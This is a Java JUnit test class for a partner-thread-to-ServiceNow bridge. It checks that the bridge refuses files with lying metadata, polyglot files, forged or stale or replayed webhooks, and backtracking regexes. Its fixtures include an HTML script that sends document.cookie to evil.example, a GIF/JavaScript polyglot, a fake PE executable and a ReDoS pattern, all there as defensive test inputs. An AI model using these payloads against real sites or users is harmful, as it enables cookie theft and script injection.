package io.tradinggrid.bridge.security;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.awaitility.Awaitility.await;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.NullNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import io.tradinggrid.bridge.classification.ClassificationRules;
import io.tradinggrid.bridge.classification.ThreadClassifier;
import io.tradinggrid.bridge.intake.WebhookHealthCheck;
import io.tradinggrid.bridge.intake.WebhookSignature;
import io.tradinggrid.bridge.intake.WebhookSubscription;
import io.tradinggrid.bridge.routing.ThreadRouting;
import io.tradinggrid.bridge.rules.RulesValidator;
import io.tradinggrid.bridge.store.AuditTrail;
import io.tradinggrid.bridge.testing.ForwardPathTestSupport;
import io.tradinggrid.emulator.Json;
import io.tradinggrid.emulator.community.NewFile;
import io.tradinggrid.emulator.community.WebhookDispatcher;
import java.io.ByteArrayOutputStream;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Properties;
import org.apache.camel.health.HealthCheck;
import org.apache.camel.health.HealthCheckHelper;
import org.apache.camel.model.ModelCamelContext;
import org.apache.camel.model.RouteDefinition;
import org.apache.camel.spi.IdempotentRepository;
import org.apache.camel.Exchange;
import org.apache.camel.StreamCache;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Issue 12, holes 6-8 and the attacks on files and webhooks: files whose metadata lies (size, type, sha256), polyglots,
 * forged, stale and replayed webhooks, a rotated webhook secret, and classification patterns that backtrack.
 */
class FilesAndWebhookAttackTest extends ForwardPathTestSupport {

    private static final String SUPPLIERS = "COM-BRW-SUPPLIERS";
    private static final String PARTNER = "PTR-100102";
    /** tgb.attachments.max-bytes in this class: small, so that going past it costs little. */
    private static final int LIMIT = 1024 * 1024;
    private static final int ALARM = 3;
    private static final byte[] PDF = "%PDF-1.4\n1 0 obj <<>> endobj\ntrailer <<>>\n%%EOF\n".getBytes(StandardCharsets.US_ASCII);
    private static final String GOOD_CSV = "invoice,amount\nINV-77120,1200.00\n";

    @TempDir
    Path temp;

    @Override
    protected Properties overrides() {
        Properties p = super.overrides();
        p.setProperty("tgb.attachments.max-bytes", String.valueOf(LIMIT));
        p.setProperty("tgb.community.webhook-unauthorized-alarm", String.valueOf(ALARM));
        return p;
    }

    // ---- files ----------------------------------------------------------------------------------------------------

    /** A file uploaded ahead of its thread (no event yet), as the community serves it: its metadata may then lie. */
    private record Upload(NewFile file, byte[] served, JsonNode declaredSize, String declaredSha256) {
        static Upload honest(NewFile file) {
            return new Upload(file, null, null, null);
        }
    }

    /**
     * A partner thread that becomes a ServiceNow incident, with a good CSV and the given files; the files are uploaded
     * and forged before the thread is opened, so no webhook can take the thread in before the forgery.
     */
    private JsonNode openThread(List<Upload> uploads) {
        ObjectNode create = Json.object();
        create.put("title", "Invoice INV-77120 rejected: VAT missing")
                .put("body", "Your AP portal rejected invoice INV-77120 because the VAT amount is missing on the 810.")
                .put("category", "TRANSACTION_FAILURE").put("priority", "NORMAL");
        create.putObject("references").put("invoice", "INV-77120").put("ediDocumentType", "810");
        var ids = create.putArray("attachmentIds");
        for (Upload upload : uploads) {
            String id = sandbox().community().uploadAsPartner(PARTNER, null, upload.file()).path("id").asText();
            if (upload.served() != null || upload.declaredSize() != null || upload.declaredSha256() != null) {
                sandbox().community().forgeAttachment(id, upload.served(), upload.declaredSize(), upload.declaredSha256());
            }
            ids.add(id);
        }
        return sandbox().community().openThreadAsPartner(SUPPLIERS, PARTNER, null, create,
                List.of(NewFile.of("remittance.csv", "text/csv", GOOD_CSV.getBytes(StandardCharsets.UTF_8))));
    }

    private String attachmentId(JsonNode thread, String fileName) {
        for (JsonNode a : thread.path("attachments")) {
            if (a.path("fileName").asText().equals(fileName)) {
                return a.path("id").asText();
            }
        }
        throw new AssertionError("no attachment " + fileName + " on " + thread);
    }

    private List<String> filesOnIncident(String threadId) {
        JsonNode incidents = clients.serviceNowRecords("incident", "correlation_id=activecommunity:" + threadId);
        assertThat(incidents).as("one incident for the thread").hasSize(1);
        List<String> names = new ArrayList<>();
        clients.serviceNowRecords("sys_attachment", "table_sys_id=" + incidents.get(0).path("sys_id").asText())
                .forEach(a -> names.add(a.path("file_name").asText()));
        return names;
    }

    private List<AuditTrail.Event> audit(String threadId, String action) {
        AuditTrail trail = context.getRegistry().lookupByNameAndType("auditTrail", AuditTrail.class);
        return trail.recent(threadId, 100).stream().filter(e -> e.action().equals(action)).toList();
    }

    /** The thread went through once, the good CSV was copied, only the expected refusal happened, all others flowed. */
    private void assertOnlyTheFileWasRefused(String threadId, String refusedId, String reasonPart, String... alsoCopied) {
        // the webhook of the new thread may still be copying files when the poll returns
        await().atMost(Duration.ofSeconds(20)).untilAsserted(() -> assertOnlyRefused(threadId, refusedId, reasonPart, alsoCopied));
    }

    private void assertOnlyRefused(String threadId, String refusedId, String reasonPart, String... alsoCopied) {
        assertThat(links().find(threadId)).isPresent();
        List<String> expected = new ArrayList<>(List.of("remittance.csv"));
        expected.addAll(Arrays.asList(alsoCopied));
        assertThat(filesOnIncident(threadId)).containsExactlyInAnyOrderElementsOf(expected);
        List<AuditTrail.Event> refused = audit(threadId, "attachment.refused");
        assertThat(refused).hasSize(1);
        assertThat(refused.get(0).recordRef()).isEqualTo("attachment:" + refusedId);
        assertThat(refused.get(0).detail()).contains(reasonPart);
        assertThat(deadLetters().countByStatus("new")).as("a refused file is not a failure of the thread").isZero();
        assertThat(links().all()).as("every other thread flowed").hasSize(sandbox().seed().threads());
    }

    @Test
    void should_cut_a_download_that_streams_30_mb_where_the_metadata_says_10_kb_and_still_copy_the_other_files_once() {
        byte[] huge = new byte[30 * 1024 * 1024];
        System.arraycopy(PDF, 0, huge, 0, PDF.length);
        JsonNode thread = openThread(List.of(new Upload(NewFile.of("pod.pdf", "application/pdf", PDF), huge,
                Json.MAPPER.getNodeFactory().numberNode(10 * 1024), null)));
        String threadId = thread.path("id").asText();
        String pod = attachmentId(thread, "pod.pdf");

        pollAll();
        pollAll();

        assertOnlyTheFileWasRefused(threadId, pod, "went past the limit of " + LIMIT);
        // what the bridge stores of that download (the stream cache, on disk past its threshold): one byte past the limit
        Exchange download = template.request("direct:community-api", e -> {
            e.getMessage().setHeader(Exchange.HTTP_METHOD, "GET");
            e.getMessage().setHeader(Exchange.HTTP_PATH, "/attachments/" + pod + "/content");
            e.getMessage().setHeader("Accept", "*/*");
        });
        assertThat(download.getException()).isNull();
        assertThat(download.getMessage().getBody(StreamCache.class).length()).isEqualTo(LIMIT + 1L);
    }

    @Test
    void should_check_a_file_without_a_size_on_its_bytes_and_refuse_it_past_the_limit_while_a_small_one_is_copied() {
        byte[] big = new byte[2 * LIMIT];
        System.arraycopy(PDF, 0, big, 0, PDF.length);
        JsonNode thread = openThread(List.of(new Upload(NewFile.of("big.pdf", "application/pdf", PDF), big, NullNode.getInstance(), null),
                new Upload(NewFile.of("small.pdf", "application/pdf", PDF), null, NullNode.getInstance(), null)));
        String threadId = thread.path("id").asText();

        pollAll();

        assertOnlyTheFileWasRefused(threadId, attachmentId(thread, "big.pdf"), "went past the limit", "small.pdf");
        assertThat(audit(threadId, "attachment.copied")).extracting(AuditTrail.Event::detail)
                .anySatisfy(d -> assertThat(d).startsWith("small.pdf sha256=").hasSize("small.pdf sha256=".length() + 64));
    }

    @Test
    void should_refuse_a_pdf_whose_bytes_are_a_windows_executable_and_copy_nothing_of_it() {
        byte[] exe = new byte[4096];
        exe[0] = 'M';
        exe[1] = 'Z';
        exe[0x3c] = (byte) 0x80;
        exe[0x80] = 'P';
        exe[0x81] = 'E';
        JsonNode thread = openThread(List.of(Upload.honest(NewFile.of("invoice.pdf", "application/pdf", exe))));
        String threadId = thread.path("id").asText();

        pollAll();

        assertOnlyTheFileWasRefused(threadId, attachmentId(thread, "invoice.pdf"), "not a .pdf file");
    }

    @Test
    void should_refuse_a_text_file_whose_bytes_are_html_with_script() {
        byte[] html = "<!DOCTYPE html><html><head><script>fetch('https://evil.example/'+document.cookie)</script></head></html>"
                .getBytes(StandardCharsets.UTF_8);
        JsonNode thread = openThread(List.of(Upload.honest(NewFile.of("notes.txt", "text/plain", html))));
        String threadId = thread.path("id").asText();

        pollAll();

        assertOnlyTheFileWasRefused(threadId, attachmentId(thread, "notes.txt"), "text/html");
    }

    @Test
    void should_refuse_a_gif_javascript_polyglot_named_png() {
        byte[] gifJs = "GIF89a/*\u0001\u0001\u0000\u0000*/=1;alert(document.domain);//".getBytes(StandardCharsets.ISO_8859_1);
        JsonNode thread = openThread(List.of(Upload.honest(NewFile.of("logo.png", "image/png", gifJs))));
        String threadId = thread.path("id").asText();

        pollAll();

        assertOnlyTheFileWasRefused(threadId, attachmentId(thread, "logo.png"), "image/gif");
    }

    @Test
    void should_type_a_pdf_zip_polyglot_by_its_leading_bytes_carrying_a_pdf_first_one_and_refusing_a_zip_first_one() throws Exception {
        byte[] zip = "PK\u0003\u0004\u0014\u0000\u0000\u0000\u0008\u0000payload.exe".getBytes(StandardCharsets.ISO_8859_1);
        ByteArrayOutputStream pdfFirst = new ByteArrayOutputStream();
        pdfFirst.write(PDF);
        pdfFirst.write(zip);
        ByteArrayOutputStream zipFirst = new ByteArrayOutputStream();
        zipFirst.write(zip);
        zipFirst.write(PDF);
        JsonNode thread = openThread(List.of(Upload.honest(NewFile.of("statement.pdf", "application/pdf", pdfFirst.toByteArray())),
                Upload.honest(NewFile.of("archive.pdf", "application/pdf", zipFirst.toByteArray()))));
        String threadId = thread.path("id").asText();

        pollAll();

        // policy: a file is the type its leading bytes show; what follows them is data the targets store, never run
        assertOnlyTheFileWasRefused(threadId, attachmentId(thread, "archive.pdf"), "application/zip", "statement.pdf");
    }

    @Test
    void should_refuse_a_file_whose_bytes_do_not_have_the_sha256_of_the_metadata() throws Exception {
        // the metadata keeps the size and sha256 of what was uploaded; other bytes of the same length are served
        byte[] swapped = PDF.clone();
        swapped[PDF.length - 2] = 'X';
        String uploadedSha = sha256Hex(PDF);
        JsonNode thread = openThread(List.of(new Upload(NewFile.of("pod.pdf", "application/pdf", PDF), swapped, null, uploadedSha)));
        String threadId = thread.path("id").asText();
        String pod = attachmentId(thread, "pod.pdf");

        pollAll();

        assertOnlyTheFileWasRefused(threadId, pod, "is not the one the metadata gives (" + uploadedSha + ")");
    }

    private static String sha256Hex(byte[] bytes) throws Exception {
        return java.util.HexFormat.of().formatHex(java.security.MessageDigest.getInstance("SHA-256").digest(bytes));
    }

    // ---- webhooks -------------------------------------------------------------------------------------------------

    private String webhookUrl() {
        return "http://127.0.0.1:" + webhookPort() + "/webhooks/community";
    }

    private String secret() {
        return sandbox().bridgeProperties().get("tgb.community.webhook-secret");
    }

    private String event(String eventId, String threadId) {
        return "{\"id\":\"" + eventId + "\",\"type\":\"thread.updated\",\"occurredTime\":\"2026-11-21T09:00:00.000Z\","
                + "\"communityId\":\"" + SUPPLIERS + "\",\"data\":{\"threadId\":\"" + threadId + "\"}}";
    }

    private HttpResponse<String> deliver(String body, String signature) {
        return clients.post(webhookUrl(), body, "Content-Type", "application/json", "X-TG-Signature", signature);
    }

    private int incidentsFor(String threadId) {
        return clients.serviceNowRecords("incident", "correlation_id=activecommunity:" + threadId).size();
    }

    private WebhookHealthCheck webhookHealth() {
        return context.getRegistry().lookupByNameAndType("webhookHealth", WebhookHealthCheck.class);
    }

    @Test
    void should_refuse_a_forged_webhook_signature_with_401_and_take_nothing_in() {
        String threadId = sandbox().threadId("S5-invoice-missing-tax");
        String body = event("evt-forged", threadId);

        HttpResponse<String> forged = deliver(body, new WebhookSignature("not-the-bridge-secret-0123456789")
                .sign(Instant.now().getEpochSecond(), body.getBytes(StandardCharsets.UTF_8)));

        assertThat(forged.statusCode()).isEqualTo(401);
        assertThat(forged.body()).doesNotContain(secret());
        assertThat(links().all()).isEmpty();
        assertThat(incidentsFor(threadId)).isZero();
        IdempotentRepository events = context.getRegistry().lookupByNameAndType("webhookRepository", IdempotentRepository.class);
        assertThat(events.contains("evt-forged")).as("a refused delivery does not use up its event id").isFalse();
        pollAll();
        assertThat(links().all()).as("the other threads flow").hasSize(sandbox().seed().threads() - 1);
    }

    @Test
    void should_refuse_a_correctly_signed_but_stale_webhook_with_401_and_take_nothing_in() {
        String threadId = sandbox().threadId("S5-invoice-missing-tax");
        String body = event("evt-stale", threadId);
        WebhookSignature signature = new WebhookSignature(secret());

        HttpResponse<String> stale = deliver(body, signature.sign(Instant.now().getEpochSecond() - 301, body.getBytes(StandardCharsets.UTF_8)));
        HttpResponse<String> future = deliver(body, signature.sign(Instant.now().getEpochSecond() + 301, body.getBytes(StandardCharsets.UTF_8)));

        assertThat(List.of(stale.statusCode(), future.statusCode())).containsOnly(401);
        assertThat(stale.body()).contains("300 s");
        assertThat(links().all()).isEmpty();
        assertThat(incidentsFor(threadId)).isZero();
    }

    @Test
    void should_take_in_a_replayed_delivery_once() {
        String threadId = sandbox().threadId("S5-invoice-missing-tax");
        String body = event("evt-replayed", threadId);
        String header = new WebhookSignature(secret()).sign(Instant.now().getEpochSecond(), body.getBytes(StandardCharsets.UTF_8));

        List<Integer> statuses = new ArrayList<>();
        for (int i = 0; i < 3; i++) {
            statuses.add(deliver(body, header).statusCode());
        }

        assertThat(statuses).containsOnly(202);
        await().atMost(Duration.ofSeconds(20)).until(() -> links().find(threadId).isPresent());
        assertThat(incidentsFor(threadId)).isEqualTo(1);
        assertThat(links().all()).as("only the thread of the event").hasSize(1);
        long creates = sandbox().serviceNow().journal().snapshot().stream()
                .filter(e -> e.method().equals("POST") && e.path().equals("/api/now/table/incident")).count();
        assertThat(creates).isEqualTo(1);
    }

    @Test
    void should_subscribe_again_when_the_webhook_secret_was_rotated_and_then_take_deliveries_in_again() throws Exception {
        await().atMost(Duration.ofSeconds(10)).until(() -> !sandbox().community().webhooks().subscriptions().isEmpty());
        WebhookSubscription current = context.getRegistry().lookupByNameAndType("webhookSubscription", WebhookSubscription.class);
        String oldSecret = "the-secret-before-rotation-0123456789";
        // as a bridge that ran with the old secret left it: the community signs with the old secret, and the bridge's
        // store remembers having subscribed this URL (with the old secret, and as the bridge before the fix keyed it)
        sandbox().community().webhooks().subscribe(new WebhookDispatcher.Subscription("SUB-OLD", webhookUrl(),
                List.of("thread.created", "thread.updated", "post.created", "attachment.added"), oldSecret,
                WebhookSubscription.fingerprint(oldSecret), Instant.now()));
        IdempotentRepository subscriptions = context.getRegistry().lookupByNameAndType("subscriptionRepository", IdempotentRepository.class);
        // the start-up subscription confirms its key once its exchange is done, a moment after the community has it
        await().atMost(Duration.ofSeconds(10)).until(() -> subscriptions.contains(current.key())
                && context.getInflightRepository().size("community-webhook-subscription") == 0);
        subscriptions.remove(current.key());
        subscriptions.add(webhookUrl());
        subscriptions.add(webhookUrl() + "#" + WebhookSubscription.fingerprint(oldSecret));

        JsonNode before = openThread(List.of());
        await().atMost(Duration.ofSeconds(15)).until(() -> sandbox().community().webhooks().deliveries().stream()
                .anyMatch(d -> "SUB-OLD".equals(d.subscriptionId()) && Integer.valueOf(401).equals(d.status())));
        assertThat(links().find(before.path("id").asText())).as("refused with the old secret").isEmpty();

        // the bridge starts with the rotated secret: its subscription route runs as at every start
        ModelCamelContext model = (ModelCamelContext) context;
        RouteDefinition route = model.getRouteDefinition("community-webhook-subscription");
        model.removeRouteDefinition(route);
        model.addRouteDefinition(route);

        await().atMost(Duration.ofSeconds(10)).until(() -> sandbox().community().webhooks().subscriptions().stream()
                .anyMatch(s -> current.fingerprint().equals(s.secretFingerprint())));
        List<WebhookDispatcher.Subscription> mine = sandbox().community().webhooks().subscriptions().stream()
                .filter(s -> s.callbackUrl().equals(webhookUrl())).toList();
        assertThat(mine).as("the new subscription replaced the old one").hasSize(1);
        assertThat(mine.get(0).secretFingerprint()).isNotEqualTo(secret()).hasSize(16).doesNotContain(secret().substring(0, 8));

        JsonNode after = openThread(List.of());
        await().atMost(Duration.ofSeconds(20)).until(() -> links().find(after.path("id").asText()).isPresent());
        assertThat(incidentsFor(after.path("id").asText())).isEqualTo(1);
    }

    @Test
    void should_report_the_webhook_down_after_repeated_401s_and_up_again_after_a_good_delivery() throws Exception {
        String threadId = sandbox().threadId("S5-invoice-missing-tax");
        String body = event("evt-wrong-secret", threadId);
        WebhookSignature wrong = new WebhookSignature("a-rotated-away-secret-0123456789");
        HttpClient http = HttpClient.newHttpClient();
        HttpRequest health = HttpRequest.newBuilder(URI.create("http://127.0.0.1:" + managementPort() + "/observe/health")).build();
        assertThat(HealthCheckHelper.getHealthCheckRegistry(context).getCheck("community-webhook")).as("registered").isPresent();

        for (int i = 0; i < ALARM; i++) {
            assertThat(deliver(body, wrong.sign(Instant.now().getEpochSecond(), body.getBytes(StandardCharsets.UTF_8))).statusCode()).isEqualTo(401);
        }

        assertThat(webhookHealth().unauthorizedInARow()).isEqualTo(ALARM);
        HealthCheck.Result down = webhookHealth().call();
        assertThat(down.getState()).isEqualTo(HealthCheck.State.DOWN);
        assertThat(down.getMessage()).hasValueSatisfying(m -> assertThat(m).contains(ALARM + " webhook deliveries").doesNotContain(secret()));
        HttpResponse<String> observed = http.send(health, HttpResponse.BodyHandlers.ofString());
        assertThat(observed.statusCode()).isEqualTo(503);
        assertThat(observed.body()).contains("DOWN");
        assertThat(links().all()).isEmpty();

        String good = event("evt-good", threadId);
        assertThat(deliver(good, new WebhookSignature(secret()).sign(Instant.now().getEpochSecond(), good.getBytes(StandardCharsets.UTF_8)))
                .statusCode()).isEqualTo(202);
        assertThat(webhookHealth().call().getState()).isEqualTo(HealthCheck.State.UP);
        assertThat(http.send(health, HttpResponse.BodyHandlers.ofString()).statusCode()).isEqualTo(200);
        await().atMost(Duration.ofSeconds(20)).until(() -> incidentsFor(threadId) == 1);
    }

    // ---- classification patterns ----------------------------------------------------------------------------------

    private static ClassificationRules rules(String pattern) throws Exception {
        return new com.fasterxml.jackson.dataformat.yaml.YAMLMapper().readValue("rules:\n  - id: operator-rule\n    when:\n"
                + "      textAny: ['" + pattern + "']\n    type: transaction-failure\ncategories:\n  GENERAL: general-inquiry\n",
                ClassificationRules.class);
    }

    @Test
    void should_finish_a_catastrophic_pattern_over_a_long_partner_text_fast_and_route_the_others_as_before() throws Exception {
        ThreadClassifier classifier = new ThreadClassifier(rules("(a+)+$"));
        ObjectNode hostile = Json.object().put("id", "THR-HOSTILE").put("category", "GENERAL").put("title", "aaaa")
                .put("body", "a".repeat(200_000) + "!");

        long start = System.nanoTime();
        String viaBridge = context.getRegistry().lookupByNameAndType("threadRouting", ThreadRouting.class).decide(hostile)
                .classification().key();
        String plain = classifier.classify(hostile).key();
        String capped = classifier.classify(hostile, 20_000).key();
        Duration took = Duration.ofNanos(System.nanoTime() - start);

        // java.util.regex needs 2^n steps for this; RE2 is linear in the (capped) text
        System.out.println("(a+)+$ over 200 000 characters, three times: " + took.toMillis() + " ms");
        assertThat(took).isLessThan(Duration.ofSeconds(5));
        assertThat(plain).isEqualTo("general-inquiry");
        assertThat(capped).as("the cap cuts the '!': the rest is all a's").isEqualTo("transaction-failure");
        assertThat(viaBridge).isNotBlank();
        pollAll();
        assertThat(links().all()).as("the bridge's rules route every seeded thread as before").hasSize(sandbox().seed().threads() - 1);
    }

    @Test
    void should_refuse_backreference_and_lookaround_patterns_at_load_naming_the_file_and_rule() throws Exception {
        assertThatThrownBy(() -> new ThreadClassifier(rules("(inv)\\1"))).hasMessageContaining("operator-rule")
                .hasMessageContaining("RE2");
        assertThatThrownBy(() -> new ThreadClassifier(rules("invoice(?=x)"))).hasMessageContaining("operator-rule");

        Path config = temp.resolve("config");
        Files.createDirectories(config);
        for (String file : List.of("classification-rules.yaml", "routing-table.yaml", "status-maps.yaml")) {
            Files.copy(Path.of("config", file), config.resolve(file));
        }
        Path rulesFile = config.resolve("classification-rules.yaml");
        Files.writeString(rulesFile, Files.readString(rulesFile).replace("rules:\n", "rules:\n  - id: echo-rule\n    when:\n"
                + "      textAny: ['\\b(\\w+) \\1\\b']\n    type: transaction-failure\n"));

        List<RulesValidator.Finding> errors = new RulesValidator(config, Path.of("routes")).validate().stream()
                .filter(RulesValidator.Finding::error).toList();

        assertThat(errors).hasSize(1);
        assertThat(errors.get(0).file()).isEqualTo(rulesFile);
        assertThat(errors.get(0).message()).contains("echo-rule").contains("backreferences");
        assertThat(new RulesValidator(Path.of("config"), Path.of("routes")).validate()).noneMatch(RulesValidator.Finding::error);
    }
}
